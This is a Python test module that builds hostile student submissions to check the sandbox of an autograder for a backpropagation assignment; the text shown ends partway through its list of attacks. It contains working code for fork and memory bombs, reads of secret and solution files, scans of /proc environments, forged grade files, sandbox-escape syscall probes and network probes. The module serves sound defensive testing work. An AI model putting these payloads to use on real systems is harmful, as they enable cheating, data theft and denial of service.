"""Hostile hand-ins: the reference solution (or a wrong baseline) plus one attack each.

Each ``Attack`` says where a student would put its code (at import time of a file,
or inside one backward), which baseline it is built on, which parts it may cost
(the part it sits in and the parts that call it), and, for attacks that try to
*learn* something, the key of the ``HOSTILE-REPORT <key> <json>`` line it prints
about what it found (the grader keeps a submission's output, so the test reads it
back from the report).

Attacks that try to gain points are built on the ``wrong-db`` baseline (Affine's db
is zeros): if an attack ever reached the reference, it would swap in the reference
Affine and score more than the baseline - which the tests detect. Attacks that hang
or kill the worker are built on the reference, so their cost is visible.

Host-side values an attack needs (a port to connect to, the grader's pid, the
sentinel files to overwrite, a unique token) come from a ``Context`` and are
written into the source as literals, as a student who knew them could.

Nothing here runs an attack: it only builds sources. Never grade these with the
sandbox off except in a throwaway environment (the writers target only the test's
own sentinel files, but the daemon, fork and memory bombs are real).
"""
from __future__ import annotations

import re
import textwrap
from collections.abc import Callable
from dataclasses import dataclass, field, fields
from pathlib import Path

import mutants

PARTS_USING = {  # a backward of this class is also called by these parts
    "MulLayer": {"MulLayer", "ShoppingGraph"},
    "AddLayer": {"AddLayer", "ShoppingGraph"},
    "Relu": {"Relu", "TwoLayerNet"},
    "Sigmoid": {"Sigmoid"},
    "Affine": {"Affine", "TwoLayerNet"},
    "SoftmaxWithLoss": {"SoftmaxWithLoss", "TwoLayerNet"},
    "TwoLayerNet": {"TwoLayerNet"},
    "ShoppingGraph": {"ShoppingGraph"},
}

# one line of each backward, where a student writes their code
BACKWARD = {
    "MulLayer": ("layers.py", "dx = dout * self.y  # swap the inputs"),
    "AddLayer": ("layers.py", "dx = dout * 1"),
    "Relu": ("layers.py", "dx = dout.copy()"),
    "Sigmoid": ("layers.py", "dx = dout * (1.0 - self.out) * self.out"),
    "Affine": ("layers.py", "dx = np.dot(dout, self.W.T)"),
    "SoftmaxWithLoss": ("layers.py", "batch_size = self.t.shape[0]"),
    "TwoLayerNet": ("two_layer_net.py", "dout = 1\n"),
}
WRONG_DB = ("layers.py", "self.db = np.sum(dout, axis=0)", "self.db = np.zeros_like(self.b)")
REPORT = re.compile(r"^HOSTILE-REPORT (\S+) (.*)$", re.M)


@dataclass(frozen=True)
class Context:
    """What the host side tells the attacks (written into their sources as literals)."""

    token: str                       # unique per run: marker names, process titles
    repo: str                        # the grader's repository on the host
    out: str = "/nonexistent"        # the batch's REPORTS folder
    victim: str = "honest-ref"       # another student of the same batch
    grader_pids: tuple[int, ...] = ()
    port: int = 9                    # TCP listener on the host's loopback
    udp_port: int = 9                # UDP socket on the host's loopback
    abstract: str = ""               # abstract unix socket name (without the NUL)
    host_ip: str = "127.0.0.1"       # a non-loopback address of the host, if any
    secret: str = ""                 # a value in the grader process's environment
    sentinels: tuple[str, ...] = ()  # host files that exist and must stay unchanged
    new_files: tuple[str, ...] = ()  # host paths that must never appear
    submission: str = "/nonexistent"  # the attacker's own folder on the host

    def fill(self, code: str) -> str:
        for f in fields(self):
            code = code.replace(f"__{f.name.upper()}__", repr(getattr(self, f.name)))
        return code


Edit = Callable[[dict[str, str], Context], None]


def inject(file: str, anchor: str, code: str) -> Edit:
    """Put ``code`` just before the (only) line holding ``anchor``, indented like it."""
    def edit(sources: dict[str, str], ctx: Context) -> None:
        lines = sources[file].split("\n")
        hits = [i for i, line in enumerate(lines) if anchor.rstrip("\n") in line]
        assert len(hits) == 1, f"{file}: {anchor!r} must occur on exactly one line"
        indent = re.match(r"\s*", lines[hits[0]]).group(0)
        body = textwrap.indent(textwrap.dedent(ctx.fill(code)).strip("\n"), indent).split("\n")
        lines[hits[0]:hits[0]] = body
        sources[file] = "\n".join(lines)
    return edit


def in_backward(cls: str, code: str) -> Edit:
    return inject(*BACKWARD[cls], code)


def replace_line(file: str, anchor: str, code: str) -> Edit:
    """Replace the (only) line holding ``anchor`` by ``code``, indented like it."""
    def edit(sources: dict[str, str], ctx: Context) -> None:
        inject(file, anchor, code)(sources, ctx)
        lines = sources[file].split("\n")
        hits = [i for i, line in enumerate(lines) if anchor in line]
        del lines[hits[0]]
        sources[file] = "\n".join(lines)
    return edit


def append(file: str, code: str) -> Edit:
    """Module-level code at the end of ``file`` (runs when it is imported)."""
    def edit(sources: dict[str, str], ctx: Context) -> None:
        sources[file] = sources[file].rstrip("\n") + "\n\n\n" + textwrap.dedent(ctx.fill(code)).strip() + "\n"
    return edit


@dataclass(frozen=True)
class Attack:
    name: str
    what: str
    edits: tuple[Edit, ...]
    baseline: str = "reference"          # or "wrong-db"
    affected: frozenset[str] = frozenset()  # parts it may cost; every other part = baseline
    status: str | None = None            # status of the items it costs ("timeout", "error")
    report: str | None = None            # key of the HOSTILE-REPORT line it prints
    notes: tuple[str, ...] = field(default=())

    def sources(self, ctx: Context) -> dict[str, str]:
        sources = baseline_sources(self.baseline)
        for edit in self.edits:
            edit(sources, ctx)
        return sources


def baseline_sources(name: str) -> dict[str, str]:
    sources = mutants.reference_sources()
    if name == "wrong-db":
        file, old, new = WRONG_DB
        assert sources[file].count(old) == 1
        sources[file] = sources[file].replace(old, new)
    else:
        assert name == "reference", name
    return sources


def write(folder: Path, sources: dict[str, str]) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    for name, text in sources.items():
        (folder / name).write_text(text, encoding="utf-8")
    return folder


def reports(output: str) -> dict[str, list]:
    """``{key: [parsed json, ...]}`` of the HOSTILE-REPORT lines in a student's output."""
    import json

    found: dict[str, list] = {}
    for key, data in REPORT.findall(output):
        found.setdefault(key, []).append(json.loads(data))
    return found


# --- the attacks -------------------------------------------------------------------------

# a helper every "learning" attack starts with: swap in the reference Affine if its
# source was reached, so a leak shows up as points, not just as a line of output
_USE_REFERENCE = '''
def _hostile_use(source):
    """Replace this module's Affine by the reference one (the gain a leak would give)."""
    namespace = {}
    exec(compile(source, "leaked", "exec"), namespace)
    globals()["Affine"] = namespace["Affine"]
'''

DISK = _USE_REFERENCE + '''

def _hostile_disk():
    import json, os
    repo = __REPO__
    wanted = [repo + "/solutions/backprop/layers.py", repo + "/solutions/backprop/hidden/test_exercises.py",
              repo + "/solutions/backprop/hidden/exercises/affine.py", repo + "/grader/assignment.py",
              repo + "/tests/mutants.py", "/etc/passwd", "/root/.bash_history"]
    for root in ("/proc/self/root", "/proc/1/root", "/proc/1/cwd", "/proc/self/cwd/.."):
        wanted += [root + path for path in wanted[:2]]
    read, failed = {}, {}
    for path in wanted:
        try:
            with open(path, encoding="utf-8", errors="replace") as fh:
                read[path] = fh.read()
        except Exception as exc:
            failed[path] = type(exc).__name__
    names = {"solutions", "hidden", "grader", "backprop", "test_exercises.py", "mutants.py",
             "conftest.py", "assignment.toml", "course.toml", "exercises"}
    seen = []
    for top in sorted(os.listdir("/")):  # everything but /usr (the OS) and the pseudo-filesystems
        if top in ("proc", "sys", "dev", "usr") or os.path.islink("/" + top):
            continue
        for folder, dirs, files in os.walk("/" + top):
            seen += [os.path.join(folder, n) for n in dirs + files if n in names]
    for path in list(read):
        if path.endswith("solutions/backprop/layers.py"):
            _hostile_use(read[path])
    print("HOSTILE-REPORT disk " + json.dumps({"read": sorted(read), "seen": sorted(seen)[:50],
                                               "failed": failed}), flush=True)


_hostile_disk()
'''

IMPORT = _USE_REFERENCE + '''

def _hostile_import():
    import importlib, json, sys
    tried = {}

    def attempt(label, fn):
        try:
            tried[label] = repr(fn())[:200]
            return True
        except BaseException as exc:
            tried[label] = "failed: " + type(exc).__name__
            return False

    attempt("grader", lambda: importlib.import_module("grader"))
    sys.path += [__REPO__, __REPO__ + "/grader", "/work", "/usr/local/lib/python3.11/site-packages"]
    sys.path += [__REPO__ + "/solutions/backprop/hidden", __REPO__ + "/solutions/backprop"]
    attempt("grader.assignment", lambda: importlib.import_module("grader.assignment"))
    attempt("exercises", lambda: importlib.import_module("exercises.affine"))
    attempt("hidden tests", lambda: importlib.import_module("test_exercises"))
    attempt("test_exercises", lambda: importlib.import_module("test_exercises"))
    attempt("backprop_grader", lambda: importlib.import_module("backprop_grader"))
    attempt("metadata", lambda: importlib.import_module("importlib.metadata")
            .distribution("backprop-grader").files[:3])
    attempt("editable finder", lambda: [m for m in sys.meta_path if "editable" in repr(m).lower()][0])
    if "grader.reference" in sys.modules:
        layers_path = sys.modules["grader.paths"].SOLUTIONS / "layers.py"
        _hostile_use(layers_path.read_text())
    ok = sorted(k for k, v in tried.items() if not v.startswith("failed"))
    print("HOSTILE-REPORT import " + json.dumps({"succeeded": ok, "tried": tried}), flush=True)


_hostile_import()
'''

# replaces Affine.backward's db line: look for the expected values where a grader
# running in the same process would keep them (callers' frames, anything gc knows)
FRAMES = '''
import gc, json, sys
_words = ("expected", "reference", "solution", "answer", "refs", "scorer", "grader")
_frames, _names, _found = [], [], None
_frame = sys._getframe()
while _frame is not None:
    _frames.append(_frame.f_code.co_filename)
    for _scope in (_frame.f_locals, _frame.f_globals):
        for _key, _value in list(_scope.items()):
            if any(w in str(_key).lower() for w in _words):
                _names.append(_frame.f_code.co_filename + ":" + str(_key))
    _frame = _frame.f_back
_arrays = 0
for _obj in gc.get_objects():
    if isinstance(_obj, dict):
        for _key, _value in list(_obj.items()):
            if isinstance(_value, np.ndarray) and _value.shape == self.b.shape:
                _arrays += 1
                if any(w in str(_key).lower() for w in _words):
                    _names.append("gc:" + str(_key))
                    _found = _value
            elif isinstance(_value, dict) and any(w in str(_key).lower() for w in _words):
                _names.append("gc:" + str(_key))
                _found = _value.get("db", _found)
_modules = sorted(m for m in sys.modules if m.split(".")[0] in ("grader", "pytest", "_pytest")
                  or m.startswith("_grader"))
print("HOSTILE-REPORT frames " + json.dumps({"frames": sorted(set(_frames)), "names": _names,
                                             "modules": _modules, "arrays_of_db_shape": _arrays}),
      flush=True)
self.db = np.array(_found, dtype=float) if _found is not None else np.zeros_like(self.b)
'''

WRITE = '''
def _hostile_write():
    import glob, json, os
    out, me = __OUT__, os.path.basename(__SUBMISSION__)
    forged = json.dumps({"student": me, "score": 100, "max_score": 100, "parts": {}, "tests": []})
    students = os.path.join(out, "students")
    overwrite = [os.path.join(students, __VICTIM__, "report.json"), os.path.join(out, "grades.csv"),
                 os.path.join(students, me, "report.json"), os.path.join(students, me, "results.json"),
                 *__SENTINELS__]
    create = [*__NEW_FILES__, os.path.join(out, ".hostile-" + __TOKEN__),
              os.path.join(__SUBMISSION__, "hostile-" + __TOKEN__),
              "/submission/hostile-" + __TOKEN__, "/worker/hostile-" + __TOKEN__,
              "/hostile-" + __TOKEN__, "/usr/hostile-" + __TOKEN__,
              *[p + "/hostile-" + __TOKEN__ for p in glob.glob("/tmp/grader-staging-*")]]
    done = {}
    for path in overwrite:
        try:
            with open(path, "w") as fh:
                fh.write(forged)
            done[path] = "overwritten"
        except OSError as exc:
            done[path] = "failed: " + type(exc).__name__
    for path in create:
        try:
            with open(path, "x") as fh:
                fh.write(forged)
            done[path] = "created"
        except OSError as exc:
            done[path] = "failed: " + type(exc).__name__
    for path in ("/submission/layers.py", os.path.join(__SUBMISSION__, "layers.py")):
        try:
            with open(path, "a") as fh:
                fh.write("# tampered")
            done[path] = "appended"
        except OSError as exc:
            done[path] = "failed: " + type(exc).__name__
    print("HOSTILE-REPORT write " + json.dumps(done), flush=True)


_hostile_write()
'''

PROC = _USE_REFERENCE + '''

def _hostile_proc():
    import json, os
    secret, repo = __SECRET__, __REPO__
    pids = sorted(int(p) for p in os.listdir("/proc") if p.isdigit())
    readable, leaked, cmdlines = [], [], {}
    for pid in sorted(set(pids) | set(__GRADER_PIDS__) | {1}):
        paths = ["/proc/%d/%s" % (pid, e) for e in ("cmdline", "environ", "status", "maps")]
        paths += ["/proc/%d/root%s/solutions/backprop/layers.py" % (pid, repo),
                  "/proc/%d/cwd/solutions/backprop/layers.py" % pid]
        for path in paths:
            try:
                with open(path, "rb") as fh:
                    data = fh.read(1 << 20)
            except OSError:
                continue
            readable.append(path)
            text = data.decode("utf-8", "replace")
            if secret and secret in text:
                leaked.append(path)
            if path.endswith("cmdline"):
                cmdlines[pid] = text.replace("\\x00", " ")[:300]
            if "class Affine" in text:
                _hostile_use(text)
                leaked.append(path)
    me = os.getpid()
    visible = [p for p in __GRADER_PIDS__ if p not in (1, me) and os.path.exists("/proc/%d" % p)]
    print("HOSTILE-REPORT proc " + json.dumps({"pids": pids, "me": me, "readable": readable,
                                               "leaked": leaked, "cmdlines": cmdlines,
                                               "grader_pids_visible": visible}), flush=True)


_hostile_proc()
'''

NETWORK = '''
def _hostile_network():
    import json, socket
    result = {}

    def attempt(label, family, kind, address, payload=b"hostile " + __TOKEN__.encode()):
        try:
            with socket.socket(family, kind) as s:
                s.settimeout(1.0)
                if kind == socket.SOCK_DGRAM:
                    s.sendto(payload, address)
                else:
                    s.connect(address)
                    s.sendall(payload)
            result[label] = "sent"
        except OSError as exc:
            result[label] = "failed: %s %s" % (type(exc).__name__, exc.errno)

    attempt("tcp 127.0.0.1", socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", __PORT__))
    attempt("tcp localhost", socket.AF_INET, socket.SOCK_STREAM, ("localhost", __PORT__))
    attempt("tcp ::1", socket.AF_INET6, socket.SOCK_STREAM, ("::1", __PORT__))
    attempt("tcp host ip", socket.AF_INET, socket.SOCK_STREAM, (__HOST_IP__, __PORT__))
    attempt("udp 127.0.0.1", socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", __UDP_PORT__))
    attempt("udp host ip", socket.AF_INET, socket.SOCK_DGRAM, (__HOST_IP__, __UDP_PORT__))
    attempt("abstract unix", socket.AF_UNIX, socket.SOCK_STREAM, "\\0" + __ABSTRACT__)
    attempt("tcp 1.1.1.1", socket.AF_INET, socket.SOCK_STREAM, ("1.1.1.1", 53))
    try:
        result["dns"] = repr(socket.getaddrinfo("example.com", 80)[:1])
    except OSError as exc:
        result["dns"] = "failed: " + type(exc).__name__
    try:
        result["interfaces"] = [name for _, name in socket.if_nameindex()]
    except OSError as exc:
        result["interfaces"] = "failed: " + type(exc).__name__
    print("HOSTILE-REPORT network " + json.dumps(result), flush=True)


_hostile_network()
'''

# double-forks a daemon in its own session that ignores the polite signals; after 3 s
# it tries to leave a marker on the host and then sleeps under the run's token, so a
# survivor is visible in the host's process list
DAEMON = '''
def _hostile_daemon():
    import os
    first = os.fork()
    if first == 0:
        os.setsid()
        if os.fork() == 0:
            import signal
            for sig in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT, signal.SIGQUIT):
                signal.signal(sig, signal.SIG_IGN)
            null = os.open("/dev/null", os.O_RDWR)
            for fd in (0, 1, 2):
                os.dup2(null, fd)
            os.closerange(3, 1024)
            markers = " ".join(__NEW_FILES__)
            os.execv("/bin/sh", ["sh", "-c", "trap '' TERM HUP INT QUIT; sleep 3; "
                                 "for m in %s; do echo late > $m; done 2>/dev/null; "
                                 "exec sh -c 'sleep 600' %s" % (markers, __TOKEN__ + "-daemon")])
        os._exit(0)
    os.waitpid(first, 0)
    print("HOSTILE-REPORT daemon {}", flush=True)


_hostile_daemon()
'''

SLEEP_FOREVER = '''
import time
while True:
    time.sleep(0.05)
'''

IGNORE_SIGNALS = '''
import signal as _signal
for _sig in ("SIGTERM", "SIGINT", "SIGHUP", "SIGQUIT", "SIGUSR1", "SIGUSR2", "SIGPIPE", "SIGALRM",
             "SIGTSTP", "SIGTTIN", "SIGTTOU", "SIGXCPU", "SIGXFSZ"):
    _signal.signal(getattr(_signal, _sig), _signal.SIG_IGN)
'''

MEMORY_BOMB = '''
hog = []
while True:
    hog.append(np.ones(1 << 24))  # 128 MB, touched
'''

FORK_BOMB = '''
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
'''

# Python 3.11 runs Python-to-Python calls without C recursion; a recursion through
# repr() (C) -> __repr__ (Python) -> repr() ... overflows the C stack instead
C_STACK = '''
import sys
sys.setrecursionlimit(10 ** 7)


class Deep:
    def __repr__(self):
        return repr(self)


repr(Deep())
'''

FLOOD = '''
import os as _os
import sys as _sys

_line = ("flood " * 20 + "\\n") * 8192      # ~1 MB
for _i in range(100):                       # 100 MB to stdout
    _sys.stdout.write(_line)
_sys.stdout.flush()
_raw = _line.encode()
for _i in range(100):                       # 100 MB straight to fd 2
    _view = memoryview(_raw)
    while _view:
        _view = _view[_os.write(2, _view):]
'''

STOP_ZYGOTE = '''
import os as _os
import signal as _signal

try:
    _os.kill(_os.getppid(), _signal.SIGSTOP)  # the zygote that forked us
except PermissionError:  # it keeps a uid of its own: the attacker's try is all it costs
    pass
'''

SHM = '''
def _hostile_shm():
    import ctypes, json
    libc = ctypes.CDLL(None, use_errno=True)
    libc.shmat.restype = ctypes.c_void_p
    libc.shmat.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_int]
    libc.shmdt.argtypes = [ctypes.c_void_p]
    size, made = 256 << 20, []
    for _ in range(6):  # 1.5 GB, over the 1 GiB memory limit
        shmid = libc.shmget(0, ctypes.c_size_t(size), 0o1600)  # IPC_PRIVATE, IPC_CREAT | 0600
        if shmid < 0:
            break
        address = libc.shmat(shmid, None, 0)
        if address in (None, ctypes.c_void_p(-1).value):
            break
        ctypes.memset(address, 1, size)   # touch every page
        libc.shmdt(ctypes.c_void_p(address))
        made.append(shmid)  # said at once: a memory cgroup may stop the process at the next one
        print("HOSTILE-REPORT shm " + json.dumps({"segments": made, "mb": len(made) * 256}), flush=True)


_hostile_shm()
'''

# N children each touch ~700 MB and wait; the parent reports how much was held at once
FORK_MEMORY = '''
def _hostile_fork_memory():
    import json, os, time
    children, held = [], 0
    for _ in range(4):  # 2.8 GB, over the 1 GiB memory limit
        read, write = os.pipe()
        pid = os.fork()
        if pid == 0:
            os.close(read)
            try:
                block = bytearray(700 << 20)
                for i in range(0, len(block), 4096):
                    block[i] = 1
                os.write(write, b"1")
            except MemoryError:
                os.write(write, b"0")
            time.sleep(60)
            os._exit(0)
        os.close(write)
        children.append((pid, read))
    for pid, read in children:
        held += os.read(read, 1) == b"1"
    print("HOSTILE-REPORT fork-memory " + json.dumps({"children": len(children),
                                                      "held_mb": held * 700}), flush=True)
    for pid, _ in children:
        os.kill(pid, 9)
        os.waitpid(pid, 0)


_hostile_fork_memory()
'''


# leaves things in the sandbox that outlive its process: a locked folder in /tmp and
# SysV IPC objects (all of the same uid as the zygote, which sweeps only processes and /tmp)
LEAVE = '''
def _hostile_leave():
    import ctypes, json, os
    os.makedirs("/tmp/hostile-locked/inner", exist_ok=True)
    with open("/tmp/hostile-locked/inner/answers.txt", "w") as fh:
        fh.write("left by " + __TOKEN__)
    with open("/tmp/hostile-plain.txt", "w") as fh:
        fh.write("left by " + __TOKEN__)
    os.chmod("/tmp/hostile-locked", 0)
    libc = ctypes.CDLL(None, use_errno=True)
    made = {"shm": libc.shmget(0x4242, ctypes.c_size_t(1 << 20), 0o1666),
            "msg": libc.msgget(0x4343, 0o1666), "sem": libc.semget(0x4444, 1, 0o1666)}
    print("HOSTILE-REPORT leave " + json.dumps(made), flush=True)


_hostile_leave()
'''

# what the next student in the same sandbox slot can see of the previous one
LOOK = '''
def _hostile_look():
    import json, os
    seen = {"tmp": sorted(os.listdir("/tmp"))}
    for kind in ("shm", "msg", "sem"):
        try:
            with open("/proc/sysvipc/" + kind) as fh:
                seen[kind] = fh.read().splitlines()[1:]
        except OSError as exc:
            seen[kind] = "failed: " + type(exc).__name__
    print("HOSTILE-REPORT look " + json.dumps(seen), flush=True)


_hostile_look()
'''


# --- round two: escapes, memory outside any process, residue, output, forged replies ----

_SYSCALLS = """
import ctypes as _ctypes, os as _os, platform as _platform
_ARM = _platform.machine() == "aarch64"
_NR = {"unshare": 97 if _ARM else 272, "setns": 268 if _ARM else 308, "clone": 220 if _ARM else 56,
       "io_uring_setup": 425, "userfaultfd": 282 if _ARM else 323, "keyctl": 219 if _ARM else 250,
       "add_key": 217 if _ARM else 248, "perf_event_open": 241 if _ARM else 298, "ptrace": 117 if _ARM else 101,
       "bpf": 280 if _ARM else 321, "process_vm_readv": 270 if _ARM else 310}
_libc = _ctypes.CDLL(None, use_errno=True)
_libc.syscall.restype = _ctypes.c_long


def _call(name, *args):
    _ctypes.set_errno(0)
    got = _libc.syscall(_NR[name], *args)
    return got, _ctypes.get_errno()


def _outcome(got, error):
    return "ok" if got != -1 else "refused: " + _os.strerror(error)
"""

# what an escape needs from the kernel: a user namespace (every capability inside it, as
# root), io_uring, userfaultfd, the keyrings, perf, ptrace, bpf, another process's memory
ESCAPES = _SYSCALLS + '''

def _hostile_escapes():
    import json, signal
    found = {}
    found["unshare user"] = _outcome(*_call("unshare", 0x10000000))
    found["unshare user+mount+net"] = _outcome(*_call("unshare", 0x10000000 | 0x00020000 | 0x40000000))
    pid, error = _call("clone", 0x10000000 | signal.SIGCHLD, 0, 0, 0, 0)
    if pid == 0:
        _os._exit(0)
    if pid > 0:
        _os.waitpid(pid, 0)
    found["clone new user"] = _outcome(pid, error)
    try:
        fd = _os.open("/proc/self/ns/net", _os.O_RDONLY)
        found["setns"] = _outcome(*_call("setns", fd, 0))
    except OSError as exc:
        found["setns"] = "refused: " + exc.strerror
    params = _ctypes.create_string_buffer(120)
    found["io_uring_setup"] = _outcome(*_call("io_uring_setup", 4, params))
    found["userfaultfd"] = _outcome(*_call("userfaultfd", 0))
    found["keyctl"] = _outcome(*_call("keyctl", 0, -4, 1))  # KEYCTL_GET_KEYRING_ID, user keyring, create
    found["add_key"] = _outcome(*_call("add_key", b"user", b"hostile", b"secret", 6, -4))
    attr = _ctypes.create_string_buffer(128)
    attr[4:8] = (128).to_bytes(4, "little")  # size; type 0 (hardware), config 0 (cycles)
    found["perf_event_open"] = _outcome(*_call("perf_event_open", attr, 0, -1, -1, 0))
    found["ptrace"] = _outcome(*_call("ptrace", 0, 0, 0, 0))  # PTRACE_TRACEME
    found["bpf"] = _outcome(*_call("bpf", 0, _ctypes.create_string_buffer(64), 64))  # BPF_MAP_CREATE
    buf = _ctypes.create_string_buffer(64)
    iov = (_ctypes.c_void_p * 2)(_ctypes.cast(buf, _ctypes.c_void_p), 64)
    found["process_vm_readv"] = _outcome(*_call("process_vm_readv", _os.getppid(), iov, 1, iov, 1, 0))
    print("HOSTILE-REPORT escapes " + json.dumps(found), flush=True)


_hostile_escapes()
'''

# memory that is in no process's RSS: memfd pages filled with write(); 6 processes of
# 60 memfds of 8 MB (RLIMIT_FSIZE caps each file) hold up to 2.8 GB at once
MEMFD = '''
def _hostile_memfd():
    import json, os, time
    children, chunk = [], b"x" * (1 << 20)
    for _ in range(6):
        read, write = os.pipe()
        pid = os.fork()
        if pid == 0:
            os.close(read)
            held = 0
            try:
                for _ in range(60):
                    fd = os.memfd_create("hostile")
                    for _ in range(8):
                        os.write(fd, chunk)
                        held += 1
                        if held % 64 == 0:
                            os.write(write, b"+")  # 64 MB more held, counted as it goes
            except OSError:
                pass
            time.sleep(60)
            os._exit(0)
        os.close(write)
        children.append((pid, read))
    time.sleep(3)  # let them fill (or be stopped)
    held = 0
    for pid, read in children:
        os.set_blocking(read, False)
        try:
            held += 64 * len(os.read(read, 1 << 16))
        except BlockingIOError:
            pass
    print("HOSTILE-REPORT memfd " + json.dumps({"children": len(children), "held_mb": held}), flush=True)
    for pid, _ in children:
        try:
            os.kill(pid, 9)
        except OSError:
            pass


_hostile_memfd()
'''

# things a process leaves in the kernel that outlive it, beyond /tmp and SysV IPC: a POSIX
# message queue holding "file contents", keys in the keyrings, an abstract unix socket a
# leftover process listens on; each is reported as left or refused
LEAVE_MORE = _SYSCALLS + '''

def _hostile_leave_more():
    import json, socket, time
    left = {}
    _libc.mq_open.restype = _ctypes.c_int
    mq = _libc.mq_open(b"/hostile-q", _os.O_CREAT | _os.O_RDWR, 0o666, None)
    secret = b"answers of " + __TOKEN__.encode()
    left["mqueue"] = "left" if mq >= 0 and _libc.mq_send(mq, secret, len(secret), 0) == 0 else \\
        "refused: " + _os.strerror(_ctypes.get_errno())
    for ring, spec in (("user keyring", -4), ("user session keyring", -5), ("session keyring", -3)):
        got, error = _call("add_key", b"user", b"hostile", secret, len(secret), spec)
        left[ring] = "left" if got > 0 else "refused: " + _os.strerror(error)
    try:
        with open("/dev/shm/hostile", "wb") as fh:
            fh.write(secret)
        left["/dev/shm"] = "left"
    except OSError as exc:
        left["/dev/shm"] = "refused: " + exc.strerror
    if _os.fork() == 0:  # a leftover process holding an abstract socket
        _os.setsid()
        server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        server.bind("\\0hostile-residue")
        server.listen(4)
        while True:
            conn, _ = server.accept()
            conn.sendall(secret)
            conn.close()
    time.sleep(0.2)
    left["abstract socket"] = "left"
    print("HOSTILE-REPORT leave-more " + json.dumps(left), flush=True)


_hostile_leave_more()
'''

LOOK_MORE = _SYSCALLS + '''

def _hostile_look_more():
    import json, socket
    seen = {}
    _libc.mq_open.restype = _ctypes.c_int
    mq = _libc.mq_open(b"/hostile-q", _os.O_RDONLY | _os.O_NONBLOCK, 0, None)
    buf = _ctypes.create_string_buffer(1 << 16)
    got = _libc.mq_receive(mq, buf, len(buf), None) if mq >= 0 else -1
    seen["mqueue"] = buf.raw[:got].decode(errors="replace") if got > 0 else None
    for ring, spec in (("user keyring", -4), ("user session keyring", -5), ("session keyring", -3)):
        key, _ = _call("keyctl", 10, spec, b"user", b"hostile", 0)  # KEYCTL_SEARCH
        if key > 0:
            data = _ctypes.create_string_buffer(256)
            size, _ = _call("keyctl", 11, key, data, 256)  # KEYCTL_READ
            seen[ring] = data.raw[:max(size, 0)].decode(errors="replace")
        else:
            seen[ring] = None
    try:
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as client:
            client.settimeout(1.0)
            client.connect("\\0hostile-residue")
            seen["abstract socket"] = client.recv(256).decode(errors="replace")
    except OSError:
        seen["abstract socket"] = None
    for folder in ("/dev/shm", "/dev/mqueue"):
        try:
            seen[folder] = sorted(_os.listdir(folder)) or None
        except OSError:
            seen[folder] = None
    print("HOSTILE-REPORT look-more " + json.dumps(seen), flush=True)


_hostile_look_more()
'''

# prints without flush=True, as students debug, then hangs: the process is killed at the
# deadline with whatever a buffer held
PRINTED_AT_IMPORT = 'print("HOSTILE-REPORT printed-at-import {}")'
PRINTS_THEN_HANGS = '''
print("HOSTILE-REPORT printed-in-backward {}")
while True:
    pass
'''

# a reply written straight to the session socket in place of the worker's, then a long
# sleep: the grader reads the forgery first
_FORGE_IMPORTS = "import json as _json, os as _os, struct as _struct, time as _time\n"
_FORGE = '''
_session = next(fd for fd in range(3, 64) if _fd_is_socket(fd))
_os.write(_session, _struct.pack(">I", len(_header)) + _header + _frames)
_time.sleep(30)
'''
_FORGE_HELPER = '''
def _fd_is_socket(fd):
    import os, stat
    try:
        return stat.S_ISSOCK(os.fstat(fd).st_mode)
    except OSError:
        return False
'''
FORGE_DEEP = _FORGE_IMPORTS + '_header, _frames = b"[" * 100000 + b"]" * 100000, b""' + _FORGE
FORGE_SHAPE = _FORGE_IMPORTS + '''
_npy = "{'descr': '<f8', 'fortran_order': False, 'shape': (4294967296, 4294967296, 1024), }"
_npy = (_npy + " " * (63 - (10 + len(_npy)) % 64) + "\\n").encode()
_frames = b"\\x93NUMPY\\x01\\x00" + len(_npy).to_bytes(2, "little") + _npy
_header = _json.dumps({"ok": True, "results": [{"t": "nd", "i": 0}], "frames": [len(_frames)]}).encode()
''' + _FORGE


ATTACKS: dict[str, Attack] = {a.name: a for a in [
    Attack("sys-exit-at-import", "sys.exit(0) while buy_apple_orange.py is imported",
           (inject("buy_apple_orange.py", "from layers import AddLayer, MulLayer",
                   "import sys\nsys.exit(0)"),),
           affected=frozenset({"ShoppingGraph"}), status="error"),
    Attack("os-exit-in-backward", "os._exit(0) inside Sigmoid.backward",
           (in_backward("Sigmoid", "import os\nos._exit(0)"),),
           affected=frozenset(PARTS_USING["Sigmoid"]), status="error"),
    Attack("busy-loop", "while True: pass inside Relu.backward",
           (in_backward("Relu", "while True:\n    pass"),),
           affected=frozenset(PARTS_USING["Relu"]), status="timeout"),
    Attack("sleep-loop", "an endless sleeping loop inside MulLayer.backward",
           (in_backward("MulLayer", SLEEP_FOREVER),),
           affected=frozenset(PARTS_USING["MulLayer"]), status="timeout"),
    Attack("ignores-signals", "SIGTERM, SIGINT, ... ignored at import; AddLayer.backward sleeps forever",
           (inject("layers.py", "import numpy as np", IGNORE_SIGNALS),
            in_backward("AddLayer", SLEEP_FOREVER)),
           affected=frozenset(PARTS_USING["AddLayer"]), status="timeout"),
    Attack("memory-bomb", "Affine.backward allocates 128 MB blocks until it cannot",
           (in_backward("Affine", MEMORY_BOMB),),
           affected=frozenset(PARTS_USING["Affine"]), status="error"),
    # in the last part graded: right after a fork bomb, a worker restart can fail (see the
    # report to the lead), which would cost this hand-in more parts than the one it bombs
    Attack("fork-bomb", "buy_apple_orange forks forever (every child too) in its backward pass",
           (inject("buy_apple_orange.py", "dall_price, dtax = mul_tax_layer.backward(dprice)", FORK_BOMB),),
           affected=frozenset({"ShoppingGraph"}), status="timeout"),
    Attack("c-stack-overflow", "unbounded recursion through C in TwoLayerNet.gradient",
           (in_backward("TwoLayerNet", C_STACK),),
           affected=frozenset(PARTS_USING["TwoLayerNet"]), status="error"),
    Attack("output-flood", "200 MB printed at import (stdout and fd 2)",
           (inject("layers.py", "import numpy as np", FLOOD),)),
    Attack("reads-the-disk", "reads the solutions and hidden tests at their host paths",
           (append("layers.py", DISK),), baseline="wrong-db", report="disk"),
    Attack("imports-the-grader", "imports the grader's packages to load the reference",
           (append("layers.py", IMPORT),), baseline="wrong-db", report="import"),
    Attack("walks-frames-and-gc", "looks for expected values in callers' frames and gc",
           (replace_line("layers.py", "self.db = np.zeros_like(self.b)", FRAMES),),
           baseline="wrong-db", report="frames"),
